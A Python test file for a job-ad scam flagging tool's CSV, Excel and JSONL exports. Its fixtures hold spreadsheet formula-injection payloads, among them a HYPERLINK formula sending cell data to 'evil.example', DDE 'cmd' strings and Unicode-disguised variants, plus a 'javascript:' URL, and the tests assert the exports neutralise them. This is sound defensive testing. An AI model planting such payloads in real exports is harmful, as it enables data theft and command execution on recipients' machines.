"""Exports: exact columns, readable reasons, Korean in Excel, and scraped formulas kept inert."""

from __future__ import annotations

import csv
import json
import zipfile

import pytest
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter

from store.exports import COLUMNS, write_export
from store.listing import list_items
from store.workbook import XLSX_COLUMNS
from tests.store.queue_fixtures import make_ad, score

HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?x="&A1,"클릭")',
    "company": "+cmd|' /C calc'!A0",
    "salary": "-1+1",
    "location": "@SUM(1+1)*cmd|' /C calc'!A0",
    "description": "\t=1+1 tab-led",
}
REASONS = [
    {"signal": "safety denial", "weight": 0.41, "evidence": "감금 절대 없음"},
    {"signal": "telegram contact", "weight": 0.3, "evidence": "@cambo_hr"},
]


@pytest.fixture
def rows(factory):
    with factory.begin() as s:
        hostile = make_ad(s, 1, contacts={"telegram": ["=cmd"], "phone": ["+855 12 345 678"]}, **HOSTILE)
        plain = make_ad(s, 2, title="캄보디아 고수익 채용", url="javascript:alert(1)")
        score(s, hostile, 0.97, reasons=REASONS)
        score(s, plain, 0.61)
    with factory() as s:
        return list_items(s)


def test_csv_has_bom_exact_columns_and_inert_cells(rows, tmp_path):
    path = write_export(rows, tmp_path / "out" / "flagged.csv", "csv")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8-sig", newline="") as fh:
        table = list(csv.reader(fh))
    assert tuple(table[0]) == COLUMNS
    first = dict(zip(COLUMNS, table[1]))
    for field, value in HOSTILE.items():
        if field in first:
            assert first[field] == "'" + value
    assert first["contacts"] == "phone: +855 12 345 678\ntelegram: =cmd"  # not at cell start
    assert first["reasons"] == "safety denial: “감금 절대 없음”\ntelegram contact: “@cambo_hr”"
    assert first["score"] == "0.97" and first["band"] == "critical"
    assert first["decision"] == "" and first["note"] == "" and first["status"] == "pending"
    assert dict(zip(COLUMNS, table[2]))["title"] == "캄보디아 고수익 채용"
    assert not list(tmp_path.joinpath("out").glob(".*tmp"))  # no temp file left behind


def test_xlsx_cells_are_strings_never_formulas(rows, tmp_path):
    path = write_export(rows, tmp_path / "flagged.xlsx", "xlsx")
    with zipfile.ZipFile(path) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    wb = load_workbook(path)
    ws = wb.active
    assert tuple(c.value for c in ws[1]) == XLSX_COLUMNS
    assert sorted(c for c in XLSX_COLUMNS if c != "description") == sorted(COLUMNS)  # found by header, any order
    cells = {name: ws.cell(row=2, column=i + 1) for i, name in enumerate(XLSX_COLUMNS)}
    for field, value in HOSTILE.items():
        if field in cells:
            assert cells[field].value == value and cells[field].data_type == "s"
    assert cells["score"].value == 0.97 and cells["score"].data_type == "n"
    assert cells["reasons"].value.splitlines()[0] == "safety denial: “감금 절대 없음”"
    assert cells["url"].hyperlink.target == "https://jobs.example/ads/1"
    assert ws.cell(row=3, column=XLSX_COLUMNS.index("url") + 1).hyperlink is None  # javascript: stays text
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref == "A1:R3"
    assert any(r.type == "colorScale" for cf in ws.conditional_formatting for r in cf.rules)
    [validation] = ws.data_validations.dataValidation
    decision = get_column_letter(XLSX_COLUMNS.index("decision") + 1)
    assert validation.formula1 == '"scam,legit,needs_info,skipped"' and f"{decision}2" in str(validation.sqref)


def test_jsonl_has_everything(rows, tmp_path):
    path = write_export(rows, tmp_path / "flagged.jsonl", "jsonl")
    records = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    assert len(records) == 2
    first = records[0]
    assert list(first)[: len(COLUMNS)] == list(COLUMNS)
    assert first["reasons"] == REASONS and first["title"] == HOSTILE["title"]
    assert first["contacts"]["telegram"] == ["=cmd"] and first["model_version"] == "v1"
    assert "description" in first and first["decision"] == ""


def test_csv_neutralises_every_disguised_formula(factory, tmp_path):
    disguised = {
        "title": "\n=HYPERLINK(\"http://evil.example\")",
        "company": "   +cmd|' /C calc'!A0",
        "salary": "\u200b\ufeff-1+1",
        "location": "＠SUM(1+1)",
        "description": "＝1+1",
    }
    with factory.begin() as s:
        score(s, make_ad(s, 1, **disguised), 0.9)
    with factory() as s:
        path = write_export(list_items(s), tmp_path / "f.csv", "csv")
    with path.open(encoding="utf-8-sig", newline="") as fh:
        row = dict(zip(COLUMNS, list(csv.reader(fh))[1]))
    for field in ("title", "company", "salary", "location"):
        assert row[field] == "'" + disguised[field], field
